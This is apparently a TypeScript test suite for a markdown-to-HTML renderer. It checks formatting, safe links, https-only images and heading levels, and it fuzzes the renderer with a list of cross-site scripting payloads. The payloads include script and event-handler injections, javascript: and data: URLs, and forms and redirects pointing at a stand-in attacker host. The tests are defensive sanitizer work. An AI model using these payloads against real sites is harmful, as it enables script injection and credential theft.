import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { renderMarkdown } from "./markdown.server";

describe("what Ada writes is shown as she meant it", () => {
  test("emphasis, lists, quotes, code, tables and line breaks", () => {
    expect(renderMarkdown("Some **bold**, *slanted* and ~~gone~~ text\nover two lines")).toBe(
      "<p>Some <strong>bold</strong>, <em>slanted</em> and <s>gone</s> text<br />\nover two lines</p>\n",
    );
    expect(renderMarkdown("3. three\n4. four")).toContain('<ol start="3">\n<li>three</li>');
    expect(renderMarkdown("> said")).toContain("<blockquote>");
    expect(renderMarkdown("```js\nif (a < b) {}\n```")).toBe(
      '<pre tabindex="0"><code>if (a &lt; b) {}\n</code></pre>\n',
    );
    expect(renderMarkdown("|a|b|\n|-|-|\n|1|2|")).toContain("<td>1</td>");
  });

  test("an address becomes a link that passes nothing on and vouches for nothing", () => {
    const link = '<a href="https://example.com/a" rel="noopener noreferrer nofollow ugc">';
    expect(renderMarkdown("see https://example.com/a")).toContain(`${link}https://example.com/a</a>`);
    expect(renderMarkdown("[here](https://example.com/a)")).toContain(`${link}here</a>`);
    expect(renderMarkdown("[post](/posts/1)")).toContain('<a href="/posts/1" rel=');
    expect(renderMarkdown("[mail](mailto:ada@example.com)")).toContain('href="mailto:ada@example.com"');
  });

  test("an image is shown when it comes over https, and not otherwise", () => {
    expect(renderMarkdown("![A plan](https://example.com/plan.png)")).toBe(
      '<p><img src="https://example.com/plan.png" alt="A plan" loading="lazy" referrerpolicy="no-referrer" /></p>\n',
    );
    for (const address of [
      "http://example.com/a.png",
      "//example.com/a.png",
      "/favicon.svg",
      "data:image/png;base64,AA",
    ]) {
      expect(renderMarkdown(`![plan](${address})`)).not.toContain("<img");
    }
  });

  test("headings stand below the page's own and skip no level", () => {
    expect(headings("# One\n### Two\n###### Three\n# Four", 1)).toEqual(["h2", "h3", "h4", "h2"]);
    expect(headings("### First", 1)).toEqual(["h2"]);
    expect(headings("# a\n## b\n### c\n#### d\n##### e", 3)).toEqual(["h4", "h5", "h6", "h6", "h6"]);
    expect(headings("Title\n=====\n> # quoted", 2)).toEqual(["h3", "h3"]);
  });
});

/** Ways that have carried script past other renderers. */
const attacks = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.example></sCrIpT>",
  "<img src=x onerror=alert(1)>",
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<math><mtext></p><style><!--</style><img title='--&gt;<img src=x onerror=alert(1)>'>",
  "<style>body{background:url(javascript:alert(1))}</style>",
  '<p style="position:fixed;inset:0">over everything</p>',
  '<form action="https://evil.example"><input name="password"></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\nscript:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](&#x6A;avascript:alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](file:///etc/passwd)",
  "<javascript:alert(1)>",
  '[x](https://e.example "onmouseover=alert(1) x=")',
  '[x](https://e.example/"onmouseover="alert(1))',
  '![x](https://e.example/a.png"onerror="alert(1))',
  '![" onerror="alert(1)](https://e.example/a.png)',
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "[ref]\n\n[ref]: javascript:alert(1)",
  '```"><script>alert(1)</script>\ncode\n```',
  "`<script>alert(1)</script>`",
  "https://e.example/<script>alert(1)</script>",
  "<a href=`javascript:alert(1)`>x</a>",
  "<!--><script>alert(1)</script-->",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "|a|\n|-|\n|<img src=x onerror=alert(1)>|",
];

describe("what Eve writes runs nowhere", () => {
  test.each(attacks)("%s", (attack) => {
    expectHarmless(renderMarkdown(attack));
    expectHarmless(renderMarkdown(`> - **${attack}**`));
  });

  test("whatever she puts together", () => {
    const part = fc.oneof(
      fc.constantFrom(...attacks),
      fc.constantFrom(
        "<",
        ">",
        '"',
        "'",
        "`",
        "[",
        "](",
        ")",
        "![",
        "&",
        "&#x3c;",
        "\n",
        "\n\n",
        "> ",
        "# ",
        "|",
        "\\",
      ),
      fc.string({ unit: "binary", maxLength: 12 }),
    );
    const text = fc.array(part, { maxLength: 12 }).map((parts) => parts.join(""));
    fc.assert(
      fc.property(text, fc.integer({ min: 1, max: 3 }), (source, under) =>
        expectHarmless(renderMarkdown(source, { under })),
      ),
      {
        numRuns: 1000,
      },
    );
  });
});

test("the reader below would notice", () => {
  for (const harmful of [
    "<script>",
    "<p style='x'>",
    '<p onclick="x">',
    '<a href="javascript:x">',
    '<img src="http://e.example/">',
    "<",
  ]) {
    expect(() => expectHarmless(harmful), harmful).toThrow();
  }
});

const tags = "p br hr h2 h3 h4 h5 h6 blockquote pre code ul ol li strong em s a img table thead tbody tr th td".split(
  " ",
);
const attributes: Record<string, RegExp> = {
  href: /^(?:https?:|mailto:|[^:]*$|[/?#])/i,
  src: /^https:/i,
  rel: /^noopener noreferrer nofollow ugc$/,
  loading: /^lazy$/,
  referrerpolicy: /^no-referrer$/,
  start: /^\d+$/,
  tabindex: /^0$/,
  alt: /^/,
  title: /^/,
};

/** Reads the answer strictly, as it is written: known tags, known attributes, quoted values, and no `<` that is not a tag. */
function expectHarmless(html: string) {
  const rest = html.replaceAll(
    /<(\/?)([a-z0-9]+)((?: [a-z]+="[^"<>]*")*)( ?\/)?>/g,
    (whole, _close, tag: string, given: string) => {
      expect(tags, whole).toContain(tag);
      for (const [, name = "", value = ""] of given.matchAll(/ ([a-z]+)="([^"]*)"/g)) {
        expect(Object.keys(attributes), whole).toContain(name);
        expect(value, whole).toMatch(attributes[name] ?? /$^/);
      }
      return "";
    },
  );
  expect(rest).not.toContain("<");
}

function headings(source: string, under: number) {
  return [...renderMarkdown(source, { under }).matchAll(/<(h\d)>/g)].map(([, tag]) => tag);
}
